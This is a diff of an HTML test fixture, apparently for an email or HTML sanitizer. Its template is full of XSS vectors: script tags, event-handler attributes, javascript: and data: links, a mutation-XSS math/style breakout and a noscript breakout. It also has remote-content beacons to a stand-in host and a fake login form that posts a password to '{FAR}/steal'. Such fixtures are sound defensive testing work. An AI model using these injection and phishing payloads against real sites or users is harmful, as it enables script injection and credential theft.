@@ -15,16 +15,19 @@ body {{ background: url({FAR}/css.png); width: expression(alert(1)) }}
 <script>window.top.document.title = "{MARK}"; alert("{MARK}")</script></head>
 <body onload="alert('{MARK}')" background="//far-away.example/background.png">
 <p>Please look at this harmless offer.</p>
-<img src="x" onerror="alert('{MARK}')"><img src="{FAR}/pixel.png"><img src="//far-away.example/p.png">
+<img src="x" onerror="alert('{MARK}')"><img src="{FAR}/pixel.png">
+<img src="//far-away.example/p.png">
 <img srcset="{FAR}/one.png 1x, {FAR}/two.png 2x"><picture><source srcset="{FAR}/s.png"></picture>
 <svg onload="alert('{MARK}')"><script>alert("{MARK}")</script><image href="{FAR}/svg.png"/></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
+<math><mtext><table><mglyph><style><!--</style>
+<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
 </table></mtext></math>
 <noscript><p title="</noscript><img src=x onerror=alert('{MARK}')>"></noscript>
 <a href="javascript:alert('{MARK}')">click here</a> <a href="&#106;avascript:alert(1)">or here</a>
 <a href="data:text/html,<script>alert('{MARK}')</script>">or there</a>
 <iframe src="{FAR}/frame"></iframe><object data="{FAR}/object"></object><embed src="{FAR}/embed">
-<video poster="{FAR}/poster.png" src="{FAR}/v.mp4" autoplay></video><audio src="{FAR}/a.mp3"></audio>
+<video poster="{FAR}/poster.png" src="{FAR}/v.mp4" autoplay></video>
+<audio src="{FAR}/a.mp3"></audio>
 <form action="{FAR}/steal"><input name="password" autofocus onfocus="alert('{MARK}')">
 <button>Log in again</button></form>
 <details open ontoggle="alert('{MARK}')"><summary>x</summary></details>
